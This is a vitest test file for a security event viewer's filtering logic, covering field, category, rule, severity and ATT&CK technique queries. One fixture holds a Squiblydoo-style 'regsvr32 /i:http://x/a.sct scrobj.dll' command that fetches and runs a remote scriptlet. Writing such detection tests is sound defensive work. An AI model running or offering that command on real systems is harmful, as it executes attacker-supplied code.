import {describe, expect, it} from 'vitest';
import type {ViewFilter} from '../../../source/core/view/filter.js';
import {eventPasses, filterKey} from '../../../source/core/view/filter.js';
import {parseQuery} from '../../../source/core/view/query.js';
import {makeEvent, regsvr32Hit} from './make-event.js';

const cmd = 'regsvr32 /s /u /i:http://x/a.sct scrobj.dll';
const hitEvent = makeEvent(1, {host: 'WS01.corp', user: 'CORP\\alice', os: 'windows', actor: {image: 'C:\\Windows\\System32\\regsvr32.exe', cmdline: cmd, pid: 1234}, summary: cmd, hits: [regsvr32Hit(cmd)]});
const dnsEvent = makeEvent(2, {category: 'DNS', host: 'WS02', user: 'bob', os: 'linux', format: 'sysmon', target: {dns: {query: 'evil.example'}}, summary: 'resolved evil.example'});
const regEvent = makeEvent(3, {category: 'Registry Value Modified', host: 'DC01', summary: 'set Run key'});
const all = [hitEvent, dnsEvent, regEvent];

const f = (query: string, extra: Partial<ViewFilter> = {}): ViewFilter => ({hiddenCategories: new Set(), hitsOnly: false, query: parseQuery(query), ...extra});
const seqs = (filter: ViewFilter) => all.filter(e => eventPasses(e, filter)).map(e => e.seq);

describe('eventPasses', () => {
	it('applies field filters case-insensitively', () => {
		expect(seqs(f('host:ws01'))).toEqual([1]);
		expect(seqs(f('user:ALICE'))).toEqual([1]);
		expect(seqs(f('os:linux'))).toEqual([2]);
		expect(seqs(f('format:s1'))).toEqual([1, 3]);
		expect(seqs(f('pid:1234'))).toEqual([1]);
	});

	it('matches cat: against category label or family', () => {
		expect(seqs(f('cat:dns'))).toEqual([2]);
		expect(seqs(f('cat:reg'))).toEqual([3]);
		expect(seqs(f('cat:"process creation"'))).toEqual([1]);
		expect(seqs(f('family:network'))).toEqual([2]);
	});

	it('matches rules, levels and techniques through the hits', () => {
		expect(seqs(f('rule:squibly'))).toEqual([1]);
		expect(seqs(f('rule:rule-regsvr'))).toEqual([1]);
		expect(seqs(f('level>=medium'))).toEqual([1]);
		expect(seqs(f('level>=critical'))).toEqual([]);
		expect(seqs(f('level:high'))).toEqual([1]);
		expect(seqs(f('technique:t1218'))).toEqual([1]);
		expect(seqs(f('technique:t1218.010'))).toEqual([1]);
		expect(seqs(f('technique:t1059'))).toEqual([]);
	});

	it('negates with a leading minus', () => {
		expect(seqs(f('-host:ws01'))).toEqual([2, 3]);
		expect(seqs(f('-level>=high'))).toEqual([2, 3]);
	});

	it('combines filters, fuzzy text, toggles, hits-only and rule id', () => {
		expect(seqs(f('host:ws evil'))).toEqual([2]);
		expect(seqs(f('', {hiddenCategories: new Set(['DNS'])}))).toEqual([1, 3]);
		expect(seqs(f('', {hitsOnly: true}))).toEqual([1]);
		expect(seqs(f('', {ruleId: 'rule-regsvr32'}))).toEqual([1]);
		expect(seqs(f('', {ruleId: 'other'}))).toEqual([]);
	});

	it('finds typos approximately but not unrelated text', () => {
		expect(seqs(f('regsrv32'))).toEqual([1]);
		expect(seqs(f('evil.exmple'))).toEqual([2]);
		expect(seqs(f('zzzzzzzz'))).toEqual([]);
	});

	it('does not throw on odd events', () => {
		const odd = {...makeEvent(9), hits: [{id: 'x', title: 'y', level: 'nope', tags: null, fields: null}], summary: undefined} as never;
		expect(() => eventPasses(odd, f('technique:t1 level>=low host:x fuzzy'))).not.toThrow();
	});
});

describe('filterKey', () => {
	it('is equal for filters that select the same events', () => {
		expect(filterKey(f('host:a  x', {hiddenCategories: new Set(['DNS', 'Login'])}))).toBe(filterKey(f('host:a x', {hiddenCategories: new Set(['Login', 'DNS'])})));
		expect(filterKey(f('host:a'))).not.toBe(filterKey(f('host:b')));
	});
});
